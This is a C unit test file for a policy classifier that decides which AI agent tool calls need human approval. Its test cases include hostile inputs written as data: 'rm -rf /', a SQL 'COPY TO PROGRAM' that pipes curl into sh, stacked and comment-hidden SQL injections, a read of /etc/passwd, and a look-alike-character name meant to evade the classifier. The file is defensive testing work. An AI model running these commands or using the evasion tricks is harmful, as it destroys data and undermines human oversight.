/* SPDX-License-Identifier: Apache-2.0 */
/* The Approval Cliff's classifier (src/policy): a table of cases, traps included. */
#include "policy/policy.h"
#include "unit.h"

#define G POLICY_GREEN
#define R POLICY_RED

/* Tool calls: name, arguments (JSON text or NULL), destructive/read-only hints, verdict. */
static const struct {
        const char *tool, *args;
        int destructive, read_only;
        enum policy_verdict want;
} tools[] = {
    /* Plain reads. */
    {"read_file", NULL, -1, -1, G},
    {"get_file_info", NULL, -1, -1, G},
    {"list_directory", NULL, -1, -1, G},
    {"list_allowed_directories", NULL, -1, -1, G},
    {"search_files", "{\"pattern\":\"*.c\"}", -1, -1, G},
    {"directory_tree", NULL, -1, -1, G},   /* server-filesystem's: "tree" reads */
    {"directory_layout", NULL, -1, -1, R}, /* no verb at all: unknown is RED */
    {"fetch", "{\"url\":\"https://example.com\"}", -1, -1, G},
    {"echo", "{\"message\":\"hi\"}", -1, -1, G},
    {"getTinyImage", NULL, -1, -1, G},
    {"getResourceReference", NULL, -1, -1, G},
    {"get-weather", NULL, -1, -1, G},
    {"issues.list", NULL, -1, -1, G},
    {"repos/get", NULL, -1, -1, G},
    {"GetUserProfile", NULL, -1, -1, G},
    {"describe_table", NULL, -1, -1, G},
    {"query", "{\"sql\":\"SELECT * FROM users\"}", -1, -1, G},
    {"run_query", "{\"sql\":\"SELECT 1\"}", -1, -1, R}, /* run is a changing verb */
    {"sql_query", "{\"q\":\"select name from t where x = 'drop'\"}", -1, -1, R},
    {"show_status", NULL, -1, -1, G},
    {"view_logs", NULL, -1, -1, G},
    {"check_health", NULL, -1, -1, G},
    {"ping", NULL, -1, -1, G},
    {"count_rows", NULL, -1, -1, G},
    {"find_symbol", NULL, -1, -1, G},
    {"lookup_dns", NULL, -1, -1, G},
    {"inspect_container", NULL, -1, -1, G},
    {"get_readme", NULL, -1, -1, G},     /* "readme" is a noun here, not the verb read */
    {"thread_summary", NULL, -1, -1, R}, /* "read" inside "thread" is not a word */
    {"bread_list", NULL, -1, -1, G},     /* a noun and a reading verb */
    {"spreadsheet_get", NULL, -1, -1, G},
    {"getreadonly", NULL, -1, -1, R}, /* one unknown word */
    {"list2", NULL, -1, -1, G},
    {"v2_get_item", NULL, -1, -1, G},
    {"printEnv", NULL, -1, -1, G},
    {"get_env", NULL, -1, 1, G},
    {"whoami", NULL, -1, -1, G},
    {"version", NULL, -1, -1, G},
    {"help", NULL, -1, -1, G},
    /* Plain changes. */
    {"write_file", NULL, -1, -1, R},
    {"edit_file", NULL, -1, -1, R},
    {"create_directory", NULL, -1, -1, R},
    {"move_file", NULL, -1, -1, R},
    {"delete_file", NULL, -1, -1, R},
    {"remove", NULL, -1, -1, R},
    {"rm", NULL, -1, -1, R},
    {"drop_table", NULL, -1, -1, R},
    {"send_email", NULL, -1, -1, R},
    {"sendMessage", NULL, -1, -1, R},
    {"post_tweet", NULL, -1, -1, R},
    {"slack.chat.post", NULL, -1, -1, R},
    {"pay_invoice", NULL, -1, -1, R},
    {"transfer_funds", NULL, -1, -1, R},
    {"charge_card", NULL, -1, -1, R},
    {"refund", NULL, -1, -1, R},
    {"purchase_item", NULL, -1, -1, R},
    {"create_issue", NULL, -1, -1, R},
    {"update_record", NULL, -1, -1, R},
    {"git_commit", NULL, -1, -1, R},
    {"git_push", NULL, -1, -1, R},
    {"deploy_app", NULL, -1, -1, R},
    {"execute_command", NULL, -1, -1, R},
    {"run", NULL, -1, -1, R},
    {"shell", NULL, -1, -1, R},
    {"eval", NULL, -1, -1, R},
    {"kill_process", NULL, -1, -1, R},
    {"restart_service", NULL, -1, -1, R},
    {"install_package", NULL, -1, -1, R},
    {"upload", NULL, -1, -1, R},
    {"set_config", NULL, -1, -1, R},
    {"grant_access", NULL, -1, -1, R},
    {"invite_user", NULL, -1, -1, R},
    {"share_document", NULL, -1, -1, R},
    {"approve_pr", NULL, -1, -1, R},
    {"chmod", NULL, -1, -1, R},
    {"archive_repo", NULL, -1, -1, R},
    {"clear_cache", NULL, -1, -1, R},
    {"printEnvAndExit", NULL, -1, -1, R}, /* exiting is an action */
    /* The traps: a reading verb next to a changing one. */
    {"get_and_delete", NULL, -1, -1, R},
    {"list_then_rm", NULL, -1, -1, R},
    {"read_and_write", NULL, -1, -1, R},
    {"fetch-and-post", NULL, -1, -1, R},
    {"getOrCreateUser", NULL, -1, -1, R},
    {"findAndReplace", NULL, -1, -1, R},
    {"search_and_destroy", NULL, -1, -1, R},
    {"view_or_edit", NULL, -1, -1, R},
    {"query_then_update", NULL, -1, -1, R},
    {"list_files_recursive_delete", NULL, -1, -1, R},
    {"DeleteGet", NULL, -1, -1, R},
    {"GET_DELETE", NULL, -1, -1, R},
    {"get.delete", NULL, -1, -1, R},
    {"get__delete", NULL, -1, -1, R},
    {"get1delete", NULL, -1, -1, R},
    /* Arguments that change the meaning. */
    {"list_directory", "{\"force\":true}", -1, -1, R},
    {"list_directory", "{\"force\":false}", -1, -1, G},
    {"get_item", "{\"delete\":\"yes\"}", -1, -1, R},
    {"get_item", "{\"delete\":\"no\"}", -1, -1, G},
    {"get_item", "{\"deleteAfter\":1}", -1, -1, R},
    {"get_item", "{\"overwrite\":1}", -1, -1, R},
    {"search_files", "{\"recursive\":true}", -1, -1, R},
    {"search_files", "{\"recursive\":0}", -1, -1, G},
    {"read_file", "{\"path\":\"/etc/passwd\",\"purge\":\"true\"}", -1, -1, R},
    {"get_item", "{\"name\":\"delete me\"}", -1, -1, G}, /* a value, not a flag */
    {"query", "{\"sql\":\"DROP TABLE users\"}", -1, -1, R},
    {"query", "{\"sql\":\"select 1; delete from users\"}", -1, -1, R},
    {"query", "{\"sql\":\"SELECT deleted_at FROM t\"}", -1, -1, G},
    {"query", "{\"sql\":\"INSERT INTO t VALUES (1)\"}", -1, -1, R},
    {"query", "{\"sql\":\"update t set x=1\"}", -1, -1, R},
    {"query", "{\"sql\":\"Truncate t\"}", -1, -1, R},
    {"get_command_output", "{\"cmd\":\"rm -rf /\"}", -1, -1, R},
    {"read_file", "{\"path\":\"drop.txt\"}", -1, -1, G}, /* not a query tool */
    /* Annotations are hints: they can make a call RED, never GREEN. */
    {"get_item", NULL, 1, -1, R},
    {"delete_item", NULL, 0, 1, R},
    {"mystery_tool", NULL, 0, 1, R},
    {"frobnicate", NULL, -1, 1, R},
    {"list_items", NULL, 0, 1, G},
    /* Found by review: acronyms, look-alikes, verb forms, missing verbs. */
    {"fetchThenDELETEItem", NULL, -1, -1, R},
    {"listAndHTTPDelete", NULL, -1, -1, R},
    {"getAPIKeyAndRMFile", NULL, -1, -1, R},
    {"get_d\xd0\xb5lete", NULL, -1, -1, R}, /* a Cyrillic e */
    {"fetch_and_deletes", NULL, -1, -1, R},
    {"list_then_deleting", NULL, -1, -1, R},
    {"read_removal", NULL, -1, -1, R},
    {"getWriter", NULL, -1, -1, R},
    {"stopped_list", NULL, -1, -1, R},
    {"get_or_upsert_user", NULL, -1, -1, R},
    {"validate_and_fix", NULL, -1, -1, R},
    {"resolve_incident", NULL, -1, -1, R},
    {"check_in_file", NULL, -1, -1, R},
    {"checkIn", NULL, -1, -1, R},
    {"watch_repository", NULL, -1, -1, R},
    {"mark_notification_read", NULL, -1, -1, R},
    {"get_item", "{\"options\":{\"force\":true}}", -1, -1, R},
    {"get_item", "{\"force\":1.0}", -1, -1, R},
    {"get_item", "{\"force\":[true]}", -1, -1, R},
    {"get_item", "{\"force\":[]}", -1, -1, G},
    {"get_item", "{\"a_b_c_d_e_f_g_h_i_j_k_l_m_n_o_force\":true}", -1, -1, R},
    {"fetch", "{\"url\":\"https://x/users/1\",\"method\":\"DELETE\"}", -1, -1, R},
    {"fetch", "{\"url\":\"https://x/users/1\",\"method\":\"GET\"}", -1, -1, G},
    {"query", "{\"sql\":\"COPY (SELECT 1) TO PROGRAM 'curl x|sh'\"}", -1, -1, R},
    {"query", "{\"sql\":\"SELECT * INTO backup FROM users\"}", -1, -1, R},
    {"query", "{\"sql\":\"ATTACH DATABASE '/x' AS x\"}", -1, -1, R},
    {"query", "{\"sql\":\"DELETE/*aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa*/FROM users\"}", -1,
     -1, R},
    {"query", "{\"sql\":\"SELECT 1 /* ; DROP TABLE users */\"}", -1, -1, R},
    {"query", "{\"statements\":[\"DROP TABLE users\"]}", -1, -1, R},
    {"query", "{\"params\":{\"sql\":\"DROP TABLE users\"}}", -1, -1, R},
    {"get_results", "{\"sql\":\"DROP TABLE users\"}", -1, -1, R},
    {"search", "{\"query\":\"DELETE FROM users\"}", -1, -1, R},
    {"search", "{\"query\":\"cats and dogs\"}", -1, -1, G},
    {"query", "{\"sql\":\"SELECT name FROM t WHERE id = 1;\"}", -1, -1, G},
    {"get_item", "{\"a\":[[[[[[[[[[1]]]]]]]]]]}", -1, -1, R}, /* deeper than we look */
    /* Names that say nothing. */
    {"", NULL, -1, -1, R},
    {"___", NULL, -1, -1, R},
    {"x", NULL, -1, -1, R},
    {"do_it", NULL, -1, -1, R},
    {"handle", NULL, -1, -1, R},
    {"process", NULL, -1, -1, R},
    {"a_b_c_d_e_f_g_h_i_j_k_l_m_n_o_p_q_get", NULL, -1, -1, R}, /* too many words */
};

TEST(tool_calls)
{
        for (size_t i = 0; i < sizeof(tools) / sizeof(tools[0]); i++) {
                struct policy_action a = {
                    .kind = POLICY_TOOL_CALL,
                    .tool = tools[i].tool,
                    .hints = {tools[i].read_only, tools[i].destructive, -1, -1}};
                struct policy_decision d;

                a.args = tools[i].args ? json_loads(tools[i].args, 0, NULL) : NULL;
                policy_classify(NULL, &a, &d);
                if (d.verdict != tools[i].want)
                        fprintf(stderr, "    %s %s: %s (%s)\n", tools[i].tool,
                                tools[i].args ? tools[i].args : "", policy_verdict_name(d.verdict),
                                d.reason);
                CHECK_EQ_INT(d.verdict, tools[i].want);
                CHECK(d.reason[0] != '\0');
                json_decref(a.args);
        }
        CHECK(sizeof(tools) / sizeof(tools[0]) >= 100);
}

TEST(other_kinds)
{
        struct policy_decision d;
        struct policy_action a = {.kind = POLICY_SANDBOX_EXEC};

        policy_classify(NULL, &a, &d);
        CHECK_EQ_INT(d.verdict, G);
        a = (struct policy_action){.kind = POLICY_WORKSPACE_APPLY, .files_changed = 1};
        policy_classify(NULL, &a, &d);
        CHECK(d.verdict == R && d.risk == POLICY_RISK_LOW);
        a.files_deleted = 1;
        policy_classify(NULL, &a, &d);
        CHECK(d.verdict == R && d.risk == POLICY_RISK_HIGH);
        a = (struct policy_action){
            .kind = POLICY_EGRESS, .host = "registry.npmjs.org", .in_allowlist = 1};
        policy_classify(NULL, &a, &d);
        CHECK_EQ_INT(d.verdict, G);
        a.in_allowlist = 0;
        policy_classify(NULL, &a, &d);
        CHECK_EQ_INT(d.verdict, R);
        a = (struct policy_action){.kind = (enum policy_kind)99};
        policy_classify(NULL, &a, &d);
        CHECK_EQ_INT(d.verdict, R);
}

TEST(policy_file_rules)
{
        static struct policy p;
        struct policy_decision d;
        struct policy_action a = {.kind = POLICY_TOOL_CALL, .tool = "send_email"};
        char why[256];

        CHECK_EQ_INT(policy_parse("# ours\n\nallow tool send_*\ndeny tool get_secret*\n"
                                  "allow egress api.example.com\nallow tool get_*\n",
                                  &p, why, sizeof(why)),
                     0);
        CHECK_EQ_INT(p.n, 4);
        policy_classify(&p, &a, &d);
        CHECK_EQ_INT(d.verdict, G); /* the operator trusts it */
        a.tool = "get_secret_key";
        policy_classify(&p, &a, &d);
        CHECK_EQ_INT(d.verdict, R); /* deny before allow, though get_* allows */
        a = (struct policy_action){.kind = POLICY_EGRESS, .host = "API.example.com"};
        policy_classify(&p, &a, &d);
        CHECK_EQ_INT(d.verdict, G);
        a.host = "example.com";
        policy_classify(&p, &a, &d);
        CHECK_EQ_INT(d.verdict, R);
        /* Deny rules ignore case; allow rules do not. */
        CHECK_EQ_INT(
            policy_parse("deny tool *delete*\nallow tool github_*\n", &p, why, sizeof(why)), 0);
        a = (struct policy_action){.kind = POLICY_TOOL_CALL, .tool = "github_DeleteRepo"};
        policy_classify(&p, &a, &d);
        CHECK_EQ_INT(d.verdict, R);
        a.tool = "github_list_repos";
        policy_classify(&p, &a, &d);
        CHECK_EQ_INT(d.verdict, G);
        CHECK(policy_parse("allow tools x\n", &p, why, sizeof(why)) < 0 &&
              strstr(why, "line 1") != NULL);
        CHECK(policy_parse("ok\nmaybe tool x\n", &p, why, sizeof(why)) < 0 &&
              strstr(why, "line 1") != NULL);
        CHECK(policy_parse("allow tool\n", &p, why, sizeof(why)) < 0);
}
